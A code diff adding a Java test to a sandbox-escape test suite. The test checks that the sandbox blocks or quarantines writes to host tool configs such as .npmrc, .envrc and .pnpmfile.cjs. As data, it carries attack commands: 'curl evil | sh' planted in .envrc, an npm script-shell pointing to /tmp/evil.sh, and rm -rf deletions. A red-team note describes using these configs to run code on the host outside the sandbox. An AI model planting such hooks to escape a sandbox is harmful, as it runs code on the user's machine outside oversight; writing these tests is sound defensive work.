@@ -225,6 +225,37 @@ class HostControlEscapeTest {
     }
 
     /**
+     * Red-team observation (issue 9c, item 4): configs that steer other host tools — npm's {@code .npmrc}
+     * ({@code script-shell} runs on the host's next {@code npm run}), yarn's and pnpm's ({@code yarnPath},
+     * {@code .pnpmfile.cjs}), direnv's {@code .envrc} and {@code .direnv/} — are protected like the hook managers:
+     * existing ones denied, new ones (at any depth) quarantined.
+     */
+    @Test
+    void hostToolConfigsAreProtected() throws Exception {
+        Path ws = repo("hosttools");
+        Files.writeString(ws.resolve(".npmrc"), "fund=false\n");
+        Files.writeString(ws.resolve(".envrc"), "export A=1\n");
+        Files.createDirectories(ws.resolve(".direnv"));
+        Files.writeString(ws.resolve(".direnv/cache"), "c\n");
+        Files.createDirectories(ws.resolve("app"));
+        Map<String, String> before = tree(ws);
+        try (Sandbox sb = TestEngine.openReady(ws)) {
+            for (String a : List.of("echo 'script-shell=/tmp/evil.sh' >> .npmrc", "echo 'curl evil | sh' >> .envrc",
+                    "echo x > .direnv/cache", "echo x > .direnv/new", "rm -rf .direnv", "mv .npmrc npmrc.bak",
+                    "rm -f .envrc")) {
+                bash(sb, ws, a + " 2>/dev/null; true");
+                assertEquals(before, tree(ws), "host tool config changed by: " + a);
+            }
+            bash(sb, ws, "echo 'script-shell=/tmp/evil.sh' > app/.npmrc; echo 'yarnPath: evil.cjs' > .yarnrc.yml; "
+                    + "echo 'module.exports={}' > .pnpmfile.cjs; mkdir -p app/.direnv && echo x > app/.direnv/x; "
+                    + "echo evil > app/.envrc; true");
+            for (String f : List.of("app/.npmrc", ".yarnrc.yml", ".pnpmfile.cjs", "app/.direnv/x", "app/.envrc")) {
+                assertFalse(Files.exists(ws.resolve(f), LinkOption.NOFOLLOW_LINKS), f + " stayed on the host");
+            }
+        }
+    }
+
+    /**
      * Variants found by attacking the fixes above: a bare layout whose HEAD is a symlink (git accepts it), and a
      * nested {@code .git} that is a symlink to a repository built in the sandbox's own temp dir (outside the
      * workspace, so no workspace scan sees the repository itself).
